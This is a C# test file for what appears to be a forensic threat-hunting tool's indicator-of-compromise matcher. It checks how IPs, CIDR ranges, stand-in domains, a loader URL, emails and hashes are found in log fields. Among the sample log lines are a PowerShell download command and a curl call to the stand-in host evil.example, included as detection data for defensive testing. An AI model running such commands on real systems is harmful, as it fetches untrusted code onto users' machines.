using Ribat.Forensics.Hunting;
using Ribat.Forensics.Ioc;

namespace Ribat.Forensics.Tests.Hunting;

public class IocMatcherTests
{
    private const string Sha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

    private static readonly IocMatcher Matcher = new(IocSet.Parse(new StringReader($"""
        1.2.3.4
        10.20.0.0/16
        10.0.0.0/8
        2001:db8:bad::/48
        2001:db8::7
        evil.example
        c2.other.example
        dc01
        https://cdn.example/loader/setup.exe
        billing@pay.example
        {Sha256}
        44d88612fea8a8f36de82e1278abb02f
        """)).Set);

    [Theory]
    [InlineData("1.2.3.4", "1.2.3.4")]
    [InlineData("10.20.3.4", "10.20.0.0/16,10.0.0.0/8")]
    [InlineData("10.99.3.4", "10.0.0.0/8")]
    [InlineData("2001:db8:bad:1::99", "2001:db8:bad::/48")]
    [InlineData("2001:DB8:0000::7", "2001:db8::7")]
    [InlineData("::ffff:1.2.3.4", "")]
    [InlineData("evil.example", "evil.example")]
    [InlineData("A.B.EVIL.EXAMPLE", "evil.example")]
    [InlineData("other.example", "")]
    [InlineData("x.c2.other.example", "c2.other.example")]
    [InlineData("DC01", "dc01")]
    [InlineData("dc01.corp.example", "")]
    [InlineData("https://cdn.example/loader/setup.exe", "https://cdn.example/loader/setup.exe")]
    [InlineData("HTTPS://CDN.Example:443/loader/setup.exe", "https://cdn.example/loader/setup.exe")]
    [InlineData("https://cdn.example/loader/Setup.exe", "")]
    [InlineData("http://www.evil.example:8080/x?y=1", "evil.example")]
    [InlineData("http://[2001:db8:bad::5]/x", "2001:db8:bad::/48")]
    [InlineData("billing@pay.example", "billing@pay.example")]
    [InlineData("billing@PAY.EXAMPLE", "billing@pay.example")]
    [InlineData("Billing@pay.example", "")]
    [InlineData("root@mx.evil.example", "evil.example")]
    [InlineData("9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08", Sha256)]
    public void A_whole_field_value_is_looked_up_as_it_is(string value, string expected)
    {
        var hits = Field(value, "f");
        string.Join(",", Values(hits)).Should().Be(expected);
    }

    [Theory]
    [InlineData("1.2.3.45")]
    [InlineData("11.2.3.4")]
    [InlineData("1.2.3.4.5")]
    [InlineData("notevil.example")]
    [InlineData("evil.example.com")]
    [InlineData("evil-example")]
    [InlineData("9.10.0.0")]
    [InlineData("https://cdn.example/loader/setup.exe2")]
    [InlineData("a9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")]
    [InlineData("xbilling@pay.example")]
    [InlineData("2001:db8::77")]
    public void A_substring_that_is_not_a_whole_token_does_not_hit(string value)
    {
        Field(value, "f").Should().BeEmpty();
        Field($"before {value} after", "f").Should().BeEmpty();
    }

    [Theory]
    [InlineData(@"powershell -nop -c ""iwr http://www.evil.example/a.ps1 -OutFile C:\t.ps1""", "evil.example")]
    [InlineData("Accepted password for root from 1.2.3.4 port 52122 ssh2", "1.2.3.4")]
    [InlineData("connect to 1.2.3.4:443 failed", "1.2.3.4")]
    [InlineData("peer [2001:db8::7]:8443 closed", "2001:db8::7")]
    [InlineData("SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=00", Sha256)]
    [InlineData("MD5=44d88612fea8a8f36de82e1278abb02f|SHA1=x", "44d88612fea8a8f36de82e1278abb02f")]
    [InlineData("From: \"Billing\" <billing@pay.example>", "billing@pay.example")]
    [InlineData("lookup (evil.example).", "evil.example")]
    [InlineData("GET https://cdn.example/loader/setup.exe, then ran it", "https://cdn.example/loader/setup.exe")]
    [InlineData("user=svc;host=DC01;ok", "dc01")]
    [InlineData("see https://x.evil.example/path and 10.20.9.9 and 1.2.3.4", "evil.example,10.20.0.0/16,10.0.0.0/8,1.2.3.4")]
    public void Indicators_inside_free_text_are_found(string value, string expected)
    {
        var hits = Field(value, "CommandLine");
        string.Join(",", Values(hits)).Should().Be(expected);
        hits.Should().OnlyContain(h => h.Field == "CommandLine" && value.Contains(h.Text, StringComparison.Ordinal));
    }

    [Fact]
    public void A_hit_names_the_indicator_the_field_and_the_text_that_matched()
    {
        var logEvent = IocSetTests.Event(("Image", @"C:\Windows\System32\curl.exe"), ("CommandLine", "curl -k https://api.evil.example/x"),
            ("DestinationIp", "10.20.1.1"), ("Empty", null));
        var hits = Matcher.Match(logEvent);

        hits.Should().HaveCount(3);
        hits[0].Should().Be(new IocHit(hits[0].Indicator, "CommandLine", "https://api.evil.example/x"));
        hits[0].Indicator.Should().Be(new IocIndicator(ObservableType.Domain, "evil.example", "line 6"));
        hits[1].Field.Should().Be("DestinationIp");
        hits[1].Text.Should().Be("10.20.1.1");
        hits[1].Indicator.Value.Should().Be("10.20.0.0/16");
    }

    [Fact]
    public void An_indicator_is_reported_once_per_field()
    {
        var hits = Field("evil.example then a.evil.example then evil.example", "Message");
        hits.Should().ContainSingle().Which.Text.Should().Be("evil.example");
    }

    private static List<IocHit> Field(string value, string name = "f")
    {
        var hits = new List<IocHit>();
        Matcher.MatchField(name, value, hits);
        return hits;
    }

    private static IEnumerable<string> Values(List<IocHit> hits) => hits.Select(h => h.Indicator.Value);
}
